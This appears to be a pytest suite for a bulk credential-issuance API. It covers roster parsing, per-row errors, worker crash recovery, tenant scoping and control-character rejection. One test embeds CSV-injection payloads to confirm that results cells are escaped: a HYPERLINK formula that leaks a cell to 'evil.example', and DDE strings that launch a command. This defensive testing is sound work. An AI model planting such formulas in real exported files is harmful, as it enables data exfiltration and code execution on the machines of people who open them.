"""Bulk issuance over HTTP: rosters in three forms, per-row errors, progress, results; and the
worker's crash recovery, driven step by step on a real database."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import httpx
import pytest

from app.container import Container
from app.observability.logs import configure_logging
from app.services.batches import BatchService, row_key
from app.services.issue_requests import RosterRow
from app.services.principal import Principal
from tests.support.api import achievement, institution
from tests.support.clock import FixedClock

pytestmark = pytest.mark.anyio

ROSTER = """given_name,family_name,email,date_of_birth,grade
Ana,Horvat,ana@example.org,2004-03-01,excellent
Đurđica,Šćepanović,,2003-05-04,
,Novak,novak@example.org,,
Marko,Kovač,not-an-email,,good
Ivana,Jovanović,,2999-13-01,
"""


async def setup(
    client: httpx.AsyncClient, admin: dict[str, str], slug: str = "ts-lj"
) -> tuple[dict[str, str], str]:
    _, headers = await institution(client, admin, slug=slug)
    return headers, (await achievement(client, headers))["id"]


def work_all(container: Container, worker: str = "test-worker", claim: int = 3) -> int:
    total = 0
    while worked := container.batches.work_once(worker, claim):
        total += worked
    return total


async def upload(
    client: httpx.AsyncClient, headers: dict[str, str], achievement_id: str, roster: str
) -> dict[str, Any]:
    r = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=roster.encode(),
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert r.status_code == 202, r.text
    batch: dict[str, Any] = r.json()
    return batch


async def batch_status(
    client: httpx.AsyncClient, headers: dict[str, str], batch_id: str
) -> dict[str, Any]:
    status: dict[str, Any] = (
        await client.get(f"/api/v1/batches/{batch_id}", headers=headers)
    ).json()
    return status


CLEAN = "given_name,family_name\n" + "".join(f"Learner{i},Family{i}\n" for i in range(10))


@pytest.fixture
def log_lines() -> Iterator[io.StringIO]:
    """The service's log as JSON lines in a buffer; the root logger as it was afterwards."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    buffer = io.StringIO()
    configure_logging("INFO", "json", stream=buffer)
    yield buffer
    root.handlers[:] = handlers
    root.setLevel(level)


async def test_csv_roster_good_rows_issue_bad_rows_are_reported(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    headers, achievement_id = await setup(client, admin_headers)
    r = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=ROSTER.encode(),
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert r.status_code == 202, r.text
    batch = r.json()
    assert batch["state"] == "queued" and batch["total"] == 5
    assert r.headers["location"] == batch["status_url"]
    assert {e["row"] for e in batch["errors"]} == {4, 5, 6}  # the header is row 1
    reasons = {e["row"]: e["reason"] for e in batch["errors"]}
    assert "given_name" in reasons[4] and "email" in reasons[5] and "date_of_birth" in reasons[6]
    early = await client.get(f"/api/v1/batches/{batch['id']}/results", headers=headers)
    assert early.status_code == 409

    assert work_all(container) == 2
    status = (await client.get(f"/api/v1/batches/{batch['id']}", headers=headers)).json()
    assert (status["state"], status["issued"], status["failed"]) == ("done", 2, 3)
    assert status["finished_at"] and status["results_url"].endswith("/results")

    results = await client.get(status["results_url"], headers=headers)
    assert results.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(results.text)))
    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6"]
    issued = [r for r in rows if r["credential_id"]]
    assert len(issued) == 2
    for row in issued:
        assert row["verification_url"].startswith("http://127.0.0.1:8000/v/")
        assert row["wallet_url"].startswith("http://127.0.0.1:8000/wallet/")
        one = await client.get(f"/api/v1/credentials/{row['credential_id']}", headers=headers)
        assert one.status_code == 200
    learners = (await client.get("/api/v1/credentials", headers=headers)).json()
    assert sorted(i["learner_family_name"] for i in learners["items"]) == ["Horvat", "Šćepanović"]


async def test_ndjson_and_multipart_rosters(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    headers, achievement_id = await setup(client, admin_headers)
    ndjson = '{"given_name": "Ana", "family_name": "Horvat"}\nnot json\n\n{"given_name": "B"}\n'
    r = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=ndjson.encode(),
        headers={**headers, "Content-Type": "application/x-ndjson"},
    )
    assert r.status_code == 202, r.text
    assert [e["row"] for e in r.json()["errors"]] == [2, 4]
    upload = await client.post(
        "/api/v1/batches",
        files={"file": ("class-3a.csv", ROSTER.encode(), "text/csv")},
        data={"achievement_id": achievement_id},
        headers=headers,
    )
    assert upload.status_code == 202, upload.text
    assert upload.json()["total"] == 5
    work_all(container)
    listed = (await client.get("/api/v1/credentials", headers=headers)).json()
    assert listed["total"] == 3


@pytest.mark.parametrize(
    ("body", "content_type", "field"),
    [
        ("given_name,family_name,shoe_size\nA,B,44\n", "text/csv", "header"),
        ("given_name,email\nA,a@b.c\n", "text/csv", "header"),
        ("given_name,family_name\n", "text/csv", "roster"),
        ("", "application/x-ndjson", "roster"),
        ("A,B", "application/json", "content-type"),
    ],
)
async def test_rosters_that_cannot_be_read_are_refused_whole(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    body: str,
    content_type: str,
    field: str,
) -> None:
    headers, achievement_id = await setup(client, admin_headers)
    r = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=body.encode(),
        headers={**headers, "Content-Type": content_type},
    )
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == field


async def test_batches_are_scoped_and_need_an_achievement(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    headers, achievement_id = await setup(client, admin_headers, slug="inst-a")
    other, _ = await setup(client, admin_headers, slug="inst-b")
    csv_headers = {**headers, "Content-Type": "text/csv"}
    r = await client.post("/api/v1/batches?achievement_id=nope", content=ROSTER.encode(),
                          headers=csv_headers)  # fmt: skip
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "achievement_id"
    made = await client.post(f"/api/v1/batches?achievement_id={achievement_id}",
                             content=ROSTER.encode(), headers=csv_headers)  # fmt: skip
    assert (
        await client.get(f"/api/v1/batches/{made.json()['id']}", headers=other)
    ).status_code == 404
    stolen = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=ROSTER.encode(),
        headers={**other, "Content-Type": "text/csv"},
    )
    assert stolen.status_code == 422


async def test_a_worker_that_dies_loses_nothing_and_duplicates_nothing(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    container: Container,
    clock: FixedClock,
) -> None:
    """Worker A claims rows and dies: once the lease runs out worker B takes them over; a row
    whose credential A had already issued (but not recorded) gets that same credential."""
    headers, achievement_id = await setup(client, admin_headers)
    roster = "given_name,family_name\n" + "".join(f"L{i},F{i}\n" for i in range(6))
    made = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content=roster.encode(),
        headers={**headers, "Content-Type": "text/csv"},
    )
    batch_id = made.json()["id"]

    batches = BatchService(
        container.uow, container.issuance, urls=container.urls, metrics=container.metrics,
        wallet_tokens=container.wallet_tokens, lease=timedelta(seconds=30), clock=clock,
    )  # fmt: skip
    claimed = batches.claim("worker-a", 4)
    assert len(claimed) == 4
    # A issued the first claimed row and died before recording it.
    with container.uow(read_only=True) as uow:
        row = uow.batches.row(claimed[0])
        assert row is not None
        first_row_number, first_data = row.row_number, row.data
    with container.uow(read_only=True) as uow:
        inst = uow.institutions.by_slug("ts-lj")
        assert inst is not None
        principal = Principal.acting_for(inst.id, "ts-lj", "worker-a")
    orphan, _ = container.issuance.issue(
        principal, RosterRow.model_validate(first_data).request(achievement_id),
        idempotency_key=row_key(batch_id, first_row_number),
    )  # fmt: skip

    assert batches.work_once("worker-b", 10) == 2  # only the unclaimed rows: A's lease holds
    clock.advance(timedelta(seconds=31))
    assert batches.work_once("worker-b", 10) == 4  # A's lease ran out
    assert batches.work_once("worker-b", 10) == 0
    status = (await client.get(f"/api/v1/batches/{batch_id}", headers=headers)).json()
    assert (status["state"], status["issued"], status["failed"]) == ("done", 6, 0)
    results = await client.get(status["results_url"], headers=headers)
    rows = list(csv.DictReader(io.StringIO(results.text)))
    ids = [r["credential_id"] for r in rows]
    assert len(set(ids)) == 6 and orphan.id in ids
    assert (await client.get("/api/v1/credentials", headers=headers)).json()["total"] == 6


async def test_rows_that_keep_crashing_a_worker_are_given_up(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    container: Container,
    clock: FixedClock,
) -> None:
    headers, achievement_id = await setup(client, admin_headers)
    made = await client.post(f"/api/v1/batches?achievement_id={achievement_id}",
                             content=b"given_name,family_name\nA,B\n",
                             headers={**headers, "Content-Type": "text/csv"})  # fmt: skip
    batches = BatchService(
        container.uow, container.issuance, urls=container.urls, metrics=container.metrics,
        wallet_tokens=container.wallet_tokens, lease=timedelta(seconds=1), clock=clock,
    )  # fmt: skip
    for _ in range(5):  # claimed five times, the worker dying each time
        assert len(batches.claim("doomed", 1)) == 1
        clock.advance(timedelta(seconds=2))
    assert batches.claim("next", 1) == []
    status: dict[str, Any] = (
        await client.get(f"/api/v1/batches/{made.json()['id']}", headers=headers)
    ).json()
    assert status["state"] == "done" and status["failed"] == 1
    assert "gave up" in status["errors"][0]["reason"]


async def test_control_characters_are_refused_at_upload_and_fail_no_other_batch(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    """The issue's triggers (a DID with U+001F, a NUL in a cell) are refused row by row when
    the roster arrives; institution B's clean batch, worked in the same claims of 25 as a
    worker does, issues every row."""
    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
    bad = (
        "given_name,family_name,did,grade\n"
        "Ana,Horvat,did:example:a\x1fb,\n"
        "Nul\x00,Cell,,\n"
        "Marko,Kovač,,good\x00\n"
        "Ivana,Novak,,\n"
    )
    a_batch = await upload(client, a_headers, a_course, bad)
    reasons = {e["row"]: e["reason"] for e in a_batch["errors"]}
    assert set(reasons) == {2, 3, 4}
    assert reasons[2].startswith("did: ") and "U+001F" in reasons[2]
    assert reasons[3].startswith("given_name: ") and "U+0000" in reasons[3]
    assert reasons[4].startswith("grade: ")
    b_batch = await upload(client, b_headers, b_course, CLEAN)

    work_all(container, claim=25)
    a_status = await batch_status(client, a_headers, a_batch["id"])
    b_status = await batch_status(client, b_headers, b_batch["id"])
    assert (b_status["state"], b_status["issued"], b_status["failed"]) == ("done", 10, 0)
    assert (a_status["state"], a_status["issued"], a_status["failed"]) == ("done", 1, 3)


async def test_a_row_that_fails_in_issuance_fails_alone(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    container: Container,
    log_lines: io.StringIO,
) -> None:
    """A row that passes validation but makes issuance raise: a DID with U+FEFF (the DID
    pattern and the text rules take it; JSON-LD's safe mode refuses it as an IRI). It fails
    with a generic reason and is logged with its batch and row (not its data); the rest of
    its batch and institution B's batch, claimed after it, issue."""
    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
    roster = "given_name,family_name,did\nAna,Horvat,did:example:a\ufeffb\nMarko,Kovač,\n"
    a_batch = await upload(client, a_headers, a_course, roster)
    assert a_batch["errors"] == []  # it passes validation
    b_batch = await upload(client, b_headers, b_course, CLEAN)

    work_all(container, claim=25)
    a_status = await batch_status(client, a_headers, a_batch["id"])
    b_status = await batch_status(client, b_headers, b_batch["id"])
    assert (b_status["state"], b_status["issued"], b_status["failed"]) == ("done", 10, 0)
    assert (a_status["state"], a_status["issued"], a_status["failed"]) == ("done", 1, 1)
    [error] = a_status["errors"]
    assert error["row"] == 2 and "internal error" in error["reason"]

    lines = [json.loads(line) for line in log_lines.getvalue().splitlines() if line.strip()]
    [failed] = [r for r in lines if r["message"] == "batch row failed"]
    assert failed["batch_id"] == a_batch["id"] and failed["row"] == 2
    assert failed["level"] == "ERROR" and failed["error"] == "JsonLdError"
    assert "Traceback" in failed["exc_info"] and "message withheld" in failed["exc_info"]
    log = log_lines.getvalue()
    assert "example:a" not in log and "Horvat" not in log and "Ana" not in log


async def test_a_stored_row_that_no_longer_validates_fails_alone(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    """A row stored before the text rules (or altered in the table): validated again when it
    is worked, it fails with the reason; its neighbours and B's batch issue."""
    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
    a_batch = await upload(client, a_headers, a_course, "given_name,family_name\nA,B\nC,D\n")
    b_batch = await upload(client, b_headers, b_course, CLEAN)
    with container.uow() as uow:
        row_ids = [
            row.id
            for row in uow.batches.claimable(container.clock(), 100)
            if row.batch_id == a_batch["id"] and row.row_number == 2
        ]
        row = uow.batches.row(row_ids[0])
        assert row is not None
        row.data = {"given_name": "Ana\x00", "family_name": "Horvat", "did": "did:x:a\x1fb"}
        uow.commit()

    work_all(container, claim=25)
    a_status = await batch_status(client, a_headers, a_batch["id"])
    b_status = await batch_status(client, b_headers, b_batch["id"])
    assert (b_status["issued"], b_status["failed"]) == (10, 0)
    assert (a_status["issued"], a_status["failed"]) == (1, 1)
    [error] = a_status["errors"]
    assert error["row"] == 2
    assert "given_name: " in error["reason"] and "did: " in error["reason"]


async def test_a_claim_takes_the_rows_of_one_batch(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
    a_batch = await upload(client, a_headers, a_course, "given_name,family_name\nA,B\nC,D\n")
    b_batch = await upload(client, b_headers, b_course, CLEAN)
    claims = []
    while ids := container.batches.claim("w", 25):
        with container.uow(read_only=True) as uow:
            claims.append({row.batch_id for row in map(uow.batches.row, ids) if row})
    assert claims == [{a_batch["id"]}, {b_batch["id"]}]


async def test_results_csv_cells_never_begin_like_a_formula(
    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
) -> None:
    """OWASP's CSV injection: a roster whose rows' error reasons begin with = + - @ (an
    NDJSON key is quoted in its reason); each such cell gets a leading single quote."""
    headers, achievement_id = await setup(client, admin_headers)
    names = {"given_name": "Ana", "family_name": "Horvat"}
    lines = [
        names,
        {'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")': "x", **names},
        {"+1+cmd|' /C calc'!A0": "x", **names},
        {"-2+3": "x", **names},
        {"@SUM(1+1)*cmd|' /C calc'!A0": "x", **names},
    ]
    r = await client.post(
        f"/api/v1/batches?achievement_id={achievement_id}",
        content="\n".join(json.dumps(line) for line in lines).encode(),
        headers={**headers, "Content-Type": "application/x-ndjson"},
    )
    assert r.status_code == 202, r.text
    work_all(container)
    results = await client.get(f"/api/v1/batches/{r.json()['id']}/results", headers=headers)
    assert results.status_code == 200
    rows = list(csv.reader(io.StringIO(results.text)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    errors = [row[4] for row in rows[1:]]
    assert errors[0] == ""
    assert errors[1].startswith("'=HYPERLINK(") and errors[2].startswith("'+1+cmd")
    assert errors[3].startswith("'-2+3") and errors[4].startswith("'@SUM(")


async def test_a_multipart_achievement_id_with_a_control_character_is_refused(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    """The form field reaches the service past the query's check (and a NUL past it would
    reach PostgreSQL)."""
    headers, achievement_id = await setup(client, admin_headers)
    r = await client.post(
        "/api/v1/batches",
        files={"file": ("class-3a.csv", ROSTER.encode(), "text/csv")},
        data={"achievement_id": achievement_id + "\x00"},
        headers=headers,
    )
    assert r.status_code == 422, r.text
    [error] = r.json()["errors"]
    assert error["field"] == "achievement_id" and "U+0000" in error["reason"]
